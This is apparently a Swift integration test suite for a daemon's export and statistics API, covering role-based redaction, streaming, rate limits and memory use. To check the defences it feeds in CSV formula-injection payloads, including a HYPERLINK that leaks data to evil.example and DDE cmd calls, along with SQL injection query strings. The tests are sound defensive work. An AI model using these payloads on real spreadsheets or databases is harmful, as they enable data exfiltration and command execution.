import Foundation
import HarkCore
import HarkTesting
import Testing

/// `GET /api/v1/export` and `GET /api/v1/statistics` against the real daemon: streamed, complete,
/// scoped and redacted as the caller's role says, formula cells neutralised (reliability.md A4),
/// hostile parameters refused, exports rate-limited per token and memory flat over 100,000 rows
/// (A3).
@Suite struct ExportAPITests {
    static let brands = #"brands: [{ name: "Nordlys Energi", aliases: ["Nordlys"] }, { name: "Fjord Kraft" }]"#

    static func daemon(limits: String = APIAuthorizationTests.matrixLimits) throws -> TestDaemon {
        try TestDaemon(config: TestDaemon.config(extraSources: brands, limits: limits))
    }

    static func post(_ d: TestDaemon, id: String, text: String, title: String? = nil, address: String? = nil)
        async throws -> String
    {
        var object: [String: Any] = ["id": id, "text": text, "title": title ?? "Title \(id)"]
        if let address { object["author"] = ["name": "Kari Nordmann", "email": address] }
        let body = try JSONSerialization.data(withJSONObject: object, options: [.sortedKeys])
        let response = try await d.postForms(body, deliveryID: "msg_\(id)")
        #expect(response.status == 202, "\(response.status) \(response.text)")
        return try #require(response.json["id"] as? String)
    }

    static func jsonLines(_ response: HTTPResult) throws -> [[String: Any]] {
        try response.text.split(separator: "\n").map { line in
            try #require(try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any], "\(line)")
        }
    }

    /// 260 mentions (more than one page of 200): 160 about Nordlys Energi, 100 about Fjord Kraft.
    @Test func exportStreamsEveryVisibleMentionOnceScopedAndRedacted() async throws {
        let d = try Self.daemon()
        defer { d.daemon.kill() }
        try await d.start()
        var nordlys: Set<String> = []
        var fjord: Set<String> = []
        for index in 0..<260 {
            if index < 160 {
                nordlys.insert(
                    try await Self.post(
                        d, id: "n\(index)", text: "Nordlys Energi har sendt meg feil faktura igjen, nummer \(index).",
                        address: "n\(index)@example.no"))
            } else {
                fjord.insert(
                    try await Self.post(
                        d, id: "f\(index)", text: "Fjord Kraft svarer ikke på telefonen, sak \(index).",
                        address: "f\(index)@example.no"))
            }
        }
        let all = try await d.api("GET", "/api/v1/export?format=jsonl")
        #expect(all.status == 200)
        #expect(all.header("content-type")?.hasPrefix("application/jsonl") == true)
        #expect(all.header("transfer-encoding")?.lowercased() == "chunked", "streamed, not buffered")
        #expect(all.header("cache-control") == "no-store")
        let ids = try Self.jsonLines(all).map { try #require($0["id"] as? String) }
        #expect(ids.count == 260 && Set(ids) == nordlys.union(fjord), "every mention exactly once")
        #expect(all.text.contains("@example.no"), "admin sees addresses")

        // Support's token is limited to Nordlys Energi: the export is too.
        let support = try await d.api("GET", "/api/v1/export?format=jsonl", token: "kari")
        #expect(Set(try Self.jsonLines(support).compactMap { $0["id"] as? String }) == nordlys)

        // Marketing: every mention, no authors.
        let marketing = try await d.api("GET", "/api/v1/export?format=csv", token: "mkt")
        #expect(marketing.status == 200)
        #expect(marketing.header("content-type")?.hasPrefix("text/csv") == true)
        #expect(!marketing.text.contains("@example.no") && !marketing.text.contains("Kari Nordmann"))
        let records = CommandLineTests.parseCSV(marketing.text)
        let header = try #require(records.first)
        #expect(records.count == 261)
        let name = try #require(header.firstIndex(of: "author_name"))
        let address = try #require(header.firstIndex(of: "author_address"))
        for record in records.dropFirst() {
            #expect(record.count == header.count && record[name].isEmpty && record[address].isEmpty)
        }

        // The list's filters apply.
        let filtered = try await d.api("GET", "/api/v1/export?format=jsonl&brand=Fjord%20Kraft")
        #expect(Set(try Self.jsonLines(filtered).compactMap { $0["id"] as? String }) == fjord)
        try await d.daemon.stop()
    }

    @Test func csvExportNeutralisesFormulaCells() async throws {
        let d = try Self.daemon()
        defer { d.daemon.kill() }
        try await d.start()
        let hostile = [
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")", "=cmd|' /C calc'!A0", "+1+cmd|' /C notepad'!A0",
            "-2+3", "@SUM(A1:A9)", "\tTabbed", "line one\r\n=second line",
        ]
        for (index, text) in hostile.enumerated() {
            _ = try await Self.post(d, id: "h\(index)", text: text, title: text, address: "h\(index)@example.no")
        }
        let response = try await d.api("GET", "/api/v1/export?format=csv")
        #expect(response.status == 200)
        let records = CommandLineTests.parseCSV(response.text)
        let header = try #require(records.first)
        #expect(records.count == hostile.count + 1)
        let textColumn = try #require(header.firstIndex(of: "text"))
        var texts: Set<String> = []
        for record in records.dropFirst() {
            #expect(record.count == header.count, "ragged row: \(record)")
            for cell in record {
                if let first = cell.first { #expect(!"=+-@\t\r".contains(first), "unneutralised cell \(cell.debugDescription)") }
            }
            texts.insert(record[textColumn])
        }
        #expect(texts.contains("'=cmd|' /C calc'!A0"))
        #expect(texts.contains("'-2+3") && texts.contains("'@SUM(A1:A9)"))
        try await d.daemon.stop()
    }

    @Test func hostileExportAndStatisticsParametersAreRefused() async throws {
        let d = try Self.daemon()
        defer { d.daemon.kill() }
        try await d.start()
        _ = try await Self.post(d, id: "p1", text: "Nordlys Energi: strømmen er borte igjen!")
        let refused = [
            "/api/v1/export", "/api/v1/export?format=xml", "/api/v1/export?format=csv%27--",
            "/api/v1/export?format=csv&source=%27%20OR%201%3D1--", "/api/v1/export?format=csv&severity=1%3B%20DROP%20TABLE%20mentions",
            "/api/v1/export?format=csv&cursor=%27%20OR%20%271%27%3D%271", "/api/v1/export?format=csv&sort=id;DELETE",
            "/api/v1/statistics?days=0", "/api/v1/statistics?days=367",
            "/api/v1/statistics?days=1e9", "/api/v1/statistics?days=30&q=x", "/api/v1/statistics?days=-1",
        ]
        for path in refused {
            let response = try await d.api("GET", path)
            #expect(response.status == 400, "\(path): \(response.status) \(response.text)")
            #expect(response.json["error"] as? String == "bad_query", "\(path)")
            #expect(!response.text.lowercased().contains("sql"), "\(path) leaks the store: \(response.text)")
        }
        // A huge limit is not an error: an export is complete regardless.
        let huge = try await d.api("GET", "/api/v1/export?format=jsonl&limit=1000000000&q=%25%25%25")
        #expect(huge.status == 200, "\(huge.text)")
        try await d.daemon.stop()
    }

    @Test func exportsAreRateLimitedPerTokenAndAudited() async throws {
        let d = try Self.daemon(limits: APIAuthorizationTests.matrixLimits + #", export_rate_per_token: "1/min""#)
        defer { d.daemon.kill() }
        try await d.start()
        _ = try await Self.post(d, id: "r1", text: "Nordlys Energi: faktura feil")
        for _ in 0..<2 { #expect(try await d.api("GET", "/api/v1/export?format=csv").status == 200) }
        let third = try await d.api("GET", "/api/v1/export?format=csv")
        #expect(third.status == 429)
        #expect(Int(third.header("retry-after") ?? "") ?? 0 >= 1)
        #expect(third.json["error"] as? String == "rate_limited")
        // Another token has its own allowance.
        #expect(try await d.api("GET", "/api/v1/export?format=jsonl", token: "mkt").status == 200)
        try await d.daemon.stop()
        let sqlite = try #require(SQLite3(d.daemon.databasePath), "needs /usr/bin/sqlite3")
        let audit = try sqlite.query(
            "SELECT actor, object, outcome FROM audit_log WHERE action = 'export' ORDER BY seq")
        #expect(audit == "token:ops|csv|ok\ntoken:ops|csv|ok\ntoken:ops|csv|rate_limited\ntoken:mkt|jsonl|ok\n")
    }

    @Test func statisticsAreScopedToTheCallersBrands() async throws {
        let d = try Self.daemon()
        defer { d.daemon.kill() }
        try await d.start()
        for index in 0..<6 {
            _ = try await Self.post(d, id: "s\(index)", text: "Nordlys Energi har sendt meg feil faktura igjen, \(index).")
        }
        for index in 0..<4 {
            _ = try await Self.post(d, id: "t\(index)", text: "Fjord Kraft har sendt meg feil faktura igjen, \(index).")
        }
        func statistics(_ token: String) async throws -> [String: Any] {
            let response = try await d.api("GET", "/api/v1/statistics?days=7", token: token)
            #expect(response.status == 200, "\(response.text)")
            return response.json
        }
        let all = try await statistics("ops")
        #expect(all["total"] as? Int == 10)
        #expect((all["by_status"] as? [String: Int])?["new"] == 10)
        #expect(all["time_zone"] as? String == "UTC")
        let daily = try #require(all["daily"] as? [[String: Any]])
        let complaints = daily.reduce(0) { $0 + ($1["count"] as? Int ?? 0) }
        let open = (all["open_by_severity"] as? [String: Int] ?? [:]).values.reduce(0, +)
        #expect(complaints == open && complaints > 0, "today's complaints are the open ones: \(all)")
        #expect(try await statistics("mkt")["total"] as? Int == 10)
        #expect(try await statistics("kari")["total"] as? Int == 6, "support sees Nordlys Energi only")
        try await d.daemon.stop()
    }

    /// reliability.md A3: an export of a large inbox is streamed page by page, so the daemon's
    /// memory does not grow with it. 50,000 rows are written to the store directly (SQL), then
    /// exported over HTTP (a debug build on a loaded machine may take a minute for it).
    @Test func aLargeExportKeepsTheDaemonsMemoryFlat() async throws {
        let d = try Self.daemon()
        defer { d.daemon.kill() }
        try await d.start()
        try await d.daemon.stop()
        let sqlite = try #require(SQLite3(d.daemon.databasePath), "needs /usr/bin/sqlite3")
        let rows = 50_000
        try sqlite.run(
            """
            WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < \(rows))
            INSERT INTO mentions (id, source, channel, external_id, received_at, author_name, author_address, text,
                content_digest, updated_at)
            SELECT printf('0193a5b2-%04x-7%03x-8%03x-%012x', i / 65536, i % 4096, i % 4096, i), 'forms', 'webhook',
                'x' || i, 1800000000000 + i * 1000, 'Customer ' || i, 'c' || i || '@example.no',
                'Generated mention number ' || i || ' with some words to make it a realistic length.', 'd' || i,
                1800000000000
            FROM n;
            """)
        try await d.start()
        let pid = try #require(d.daemon.process?.pid)
        let before = try #require(Self.residentKiB(pid))
        let response: HTTPResult
        do {
            response = try await d.daemon.request(
                "GET", "/api/v1/export?format=jsonl", headers: ["Authorization": "Bearer \(TestDaemon.tokens["mkt"]!)"],
                timeout: 600)
        } catch {
            let log = (try? String(contentsOfFile: d.daemon.logPath, encoding: .utf8)) ?? ""
            throw TestingError("the export failed (\(error)); daemon log:\n\(log.suffix(3000))")
        }
        let after = try #require(Self.residentKiB(pid))
        #expect(response.status == 200)
        #expect(response.text.split(separator: "\n").count == rows)
        #expect(!response.text.contains("@example.no"))
        // The body is ~20 MB; a buffered export would hold it (and its pieces) at once.
        #expect(after - before < 16 * 1024, "RSS grew from \(before) KiB to \(after) KiB over the export")

        // One export at a time per token: a downloader that stopped reading holds its token's slot
        // (the export waits for it instead of buffering)...
        let stalled = try StalledHTTPRequest(
            port: d.daemon.port,
            "GET /api/v1/export?format=jsonl HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer \(TestDaemon.tokens["mkt"]!)\r\n\r\n")
        #expect(stalled.status == 200)
        let second = try await d.api("GET", "/api/v1/export?format=csv", token: "mkt")
        #expect(second.status == 429 && (second.json["message"] as? String)?.contains("still running") == true)
        #expect(try await d.api("GET", "/api/v1/export?format=csv&source=open", token: "ops").status == 200)
        // ...and gives it back when the connection goes.
        stalled.close()
        var freed = false
        for _ in 0..<300 where !freed {
            freed = try await d.api("GET", "/api/v1/export?format=csv&source=open", token: "mkt").status == 200
            if !freed { try await Task.sleep(for: .milliseconds(100)) }
        }
        #expect(freed, "the slot of a closed export is released")
        try await d.daemon.stop()
    }

    static func residentKiB(_ pid: Int32) -> Int? {
        guard let status = try? String(contentsOfFile: "/proc/\(pid)/status", encoding: .utf8) else { return nil }
        let line = status.split(separator: "\n").first { $0.hasPrefix("VmRSS:") }
        return line.flatMap { Int($0.split(separator: " ").dropFirst().first ?? "") }
    }
}
